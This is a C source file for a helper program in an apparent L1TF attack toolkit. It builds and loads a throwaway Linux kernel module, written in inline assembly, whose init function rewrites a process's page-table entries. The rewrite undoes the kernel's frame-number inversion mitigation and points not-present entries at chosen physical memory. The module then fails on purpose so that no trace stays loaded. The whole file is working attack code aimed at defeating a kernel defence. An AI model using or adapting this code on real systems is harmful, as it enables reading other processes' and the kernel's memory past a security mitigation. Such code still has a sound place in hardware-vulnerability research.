/*
 * Set-up program: makes page-table entries for the L1TF attack.
 *
 *   entries MODULE...
 *
 * Linux inverts the frame number of each entry that is not present, so that it points to no memory;
 * there is no option against it. This program makes entries as Linux did before, for pages of any
 * process that asks on a socket (--entries). It does so by a module for the kernel, whose init
 * function changes the entry and then fails, so that nothing of it stays. MODULE is any module of
 * the running kernel that has an init function: from it come the size of struct module, and where
 * the pointer to that function is. The first such file is taken.
 */
#include "setup.h"

#include <sys/mman.h>
#include <sys/syscall.h>

#include "entries.h"

enum {
	IGNORE_VERSIONS = 1 | 2,	/* MODULE_INIT_IGNORE_MODVERSIONS | MODULE_INIT_IGNORE_VERMAGIC */
	NOT_PRESENT = 0x100,		/* _PAGE_PROTNONE: Linux' mark of such pages, in a bit of no meaning */
	USER_ACCESSED_DIRTY = 0x64,
};

static const uint64_t frame_mask = 0x000ffffffffff000;

static const char socket_path[] = "/tmp/entries";

/* The init function, and what it works on. */
extern const uint8_t init_code[], init_data[], init_end[];

__asm__(
	".pushsection .rodata\n"
	"init_code:\n\t"
	"push %rbx\n\t"
	"push %rbp\n\t"
	"sub $24, %rsp\n\t"
	"lea init_data(%rip), %rbx\n\t"
	"mov 0(%rbx), %rdi\n\t"
	"call *8(%rbx)\n\t"		/* find_task_by_vpid */
	"mov %rax, %rdi\n\t"
	"call *16(%rbx)\n\t"		/* get_task_mm */
	"mov %rax, %rbp\n\t"
	"mov %rbp, %rdi\n\t"
	"mov 24(%rbx), %rsi\n\t"
	"mov %rsp, %rdx\n\t"
	"lea 8(%rsp), %rcx\n\t"
	"call *32(%rbx)\n\t"		/* follow_pte, which locks */
	"test %eax, %eax\n\t"
	"jnz 1f\n\t"
	"mov (%rsp), %rax\n\t"
	"mov 40(%rbx), %rcx\n\t"
	"mov %rcx, (%rax)\n\t"
	"mov 8(%rsp), %rdi\n\t"
	"call *48(%rbx)\n\t"		/* _raw_spin_unlock */
	"1: mov %rbp, %rdi\n\t"
	"call *56(%rbx)\n\t"		/* mmput */
	"mov $-125, %eax\n\t"		/* -ECANCELED */
	"add $24, %rsp\n\t"
	"pop %rbp\n\t"
	"pop %rbx\n\t"
	"ret\n\t"
	".balign 8\n"
	"init_data:\n\t"
	".skip 64\n"
	"init_end:\n\t"
	".popsection");

struct init_data {
	uint64_t process, find_task, get_memory, page, follow_entry, value, unlock, put_memory;
};

/* Of struct module in the running kernel. */
static uint64_t module_size, init_offset;

/* Reads size and offset off a module; returns whether it has an init function. */
static int read_module(const char *path)
{
	static const char name[] = ".gnu.linkonce.this_module", relocations[] = ".rela.gnu.linkonce.this_module";
	int fd = checked(open(path, O_RDONLY), path);
	struct stat status;
	const uint8_t *file;
	const Elf64_Ehdr *header;
	const Elf64_Shdr *sections;
	const char *names;

	checked(fstat(fd, &status), path);
	file = mmap(NULL, status.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (file == MAP_FAILED)
		err(1, "%s", path);
	header = (const Elf64_Ehdr *)file;
	sections = (const Elf64_Shdr *)(file + header->e_shoff);
	names = (const char *)file + sections[header->e_shstrndx].sh_offset;
	for (int i = 0; i < header->e_shnum; i++) {
		if (!strcmp(names + sections[i].sh_name, name))
			module_size = sections[i].sh_size;
		/* The init function is the first pointer that is filled in, the exit function the other. */
		if (!strcmp(names + sections[i].sh_name, relocations))
			init_offset = ((const Elf64_Rela *)(file + sections[i].sh_offset))->r_offset;
	}
	close(fd);
	return module_size && init_offset;
}

/* Writes a module whose init function is init_code with this data. */
static int write_module(const struct init_data *data)
{
	enum { NONE, TEXT, INFO, MODULE, RELOCATIONS, SYMBOLS, STRINGS, SECTIONS };
	static const char strings[] =
		"\0.init.text\0.modinfo\0.gnu.linkonce.this_module\0.rela.gnu.linkonce.this_module\0.symtab\0.strtab\0"
		"init_module";
	static const char information[] = "license=GPL\0retpoline=Y\0name=entry";
	static const int names[SECTIONS] = { 0, 1, 12, 21, 47, 78, 86 };
	static uint8_t module[8192], text[512];
	Elf64_Ehdr header = {
		.e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64, ELFDATA2LSB, EV_CURRENT },
		.e_type = ET_REL, .e_machine = EM_X86_64, .e_version = EV_CURRENT, .e_ehsize = sizeof(header),
		.e_shentsize = sizeof(Elf64_Shdr), .e_shnum = SECTIONS, .e_shstrndx = STRINGS,
	};
	Elf64_Sym symbols[2] = {
		[1] = { .st_name = 94, .st_info = ELF64_ST_INFO(STB_GLOBAL, STT_FUNC), .st_shndx = TEXT },
	};
	Elf64_Rela relocation = { .r_offset = init_offset, .r_info = ELF64_R_INFO(1, R_X86_64_64) };
	Elf64_Shdr sections[SECTIONS] = { 0 };
	const struct { const void *bytes; uint64_t size; } contents[SECTIONS] = {
		[TEXT] = { text, init_end - init_code }, [INFO] = { information, sizeof(information) },
		[MODULE] = { module, module_size }, [RELOCATIONS] = { &relocation, sizeof(relocation) },
		[SYMBOLS] = { symbols, sizeof(symbols) }, [STRINGS] = { strings, sizeof(strings) },
	};
	uint64_t offset = sizeof(header);
	int file = checked(memfd_create("entry", 0), "memfd_create");

	if (module_size > sizeof(module))
		errx(1, "struct module: expected at most %zu bytes, found %lu", sizeof(module), module_size);
	memcpy(text, init_code, init_end - init_code);
	memcpy(text + (init_data - init_code), data, sizeof(*data));
	strcpy((char *)module + 24, "entry");	/* after state and list */
	for (int i = TEXT; i < SECTIONS; i++) {
		sections[i] = (Elf64_Shdr){
			.sh_name = names[i], .sh_type = SHT_PROGBITS, .sh_offset = offset, .sh_size = contents[i].size,
			.sh_addralign = 8,
		};
		checked(pwrite(file, contents[i].bytes, contents[i].size, offset), "module");
		offset = (offset + contents[i].size + 63) & ~63ULL;
	}
	sections[TEXT].sh_flags = SHF_ALLOC | SHF_EXECINSTR;
	sections[INFO].sh_flags = SHF_ALLOC;
	sections[MODULE].sh_flags = SHF_ALLOC | SHF_WRITE;
	sections[MODULE].sh_addralign = 64;
	sections[RELOCATIONS].sh_type = SHT_RELA;
	sections[RELOCATIONS].sh_link = SYMBOLS;
	sections[RELOCATIONS].sh_info = MODULE;
	sections[RELOCATIONS].sh_entsize = sizeof(relocation);
	sections[SYMBOLS].sh_type = SHT_SYMTAB;
	sections[SYMBOLS].sh_link = STRINGS;
	sections[SYMBOLS].sh_info = 1;
	sections[SYMBOLS].sh_entsize = sizeof(symbols[0]);
	sections[STRINGS].sh_type = SHT_STRTAB;
	header.e_shoff = offset;
	checked(pwrite(file, &header, sizeof(header), 0), "module");
	checked(pwrite(file, sections, sizeof(sections), offset), "module");
	return file;
}

/* Frame of a page of another process. */
static uint64_t frame_of(pid_t process, uint64_t page)
{
	char path[64];
	uint64_t entry = 0;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/pagemap", process);
	fd = checked(open(path, O_RDONLY), path);
	checked(pread(fd, &entry, sizeof(entry), page / PAGE * sizeof(entry)), path);
	close(fd);
	return entry & ((1ULL << 55) - 1);
}

int main(int argc, char **argv)
{
	static const char *const names[] = {
		"find_task_by_vpid", "get_task_mm", "follow_pte", "_raw_spin_unlock", "mmput",
	};
	uint64_t starts[5], ends[5], frame = 0;
	int socket;

	(void)argc;
	while (*++argv && !read_module(*argv))
		;
	if (!*argv)
		errx(2, "usage: entries MODULE..., at least one of the running kernel with an init function");
	kernel_symbols(5, names, starts, ends);
	socket = listen_at(socket_path, SOCK_SEQPACKET);
	printf("--entries %s", socket_path);
	to_background();
	for (;;) {
		int client = accept(socket, NULL, NULL);
		struct entry_request request;
		struct ucred peer;
		socklen_t size = sizeof(peer);

		getsockopt(client, SOL_SOCKET, SO_PEERCRED, &peer, &size);
		while (read(client, &request, sizeof(request)) == sizeof(request)) {
			struct init_data data = {
				.process = peer.pid, .find_task = starts[0], .get_memory = starts[1], .page = request.page,
				.follow_entry = starts[2], .unlock = starts[3], .put_memory = starts[4],
			};
			char answer = 0;
			int module;

			if (!frame)
				frame = frame_of(peer.pid, request.page);
			data.value = (request.physical ? request.physical : ~(frame * PAGE)) & frame_mask;
			data.value |= NOT_PRESENT | USER_ACCESSED_DIRTY;
			if (!request.physical)
				frame = 0;
			module = write_module(&data);
			syscall(SYS_finit_module, module, "", IGNORE_VERSIONS);
			answer = errno == ECANCELED;
			close(module);
			if (write(client, &answer, 1) != 1)
				break;
		}
		close(client);
	}
}
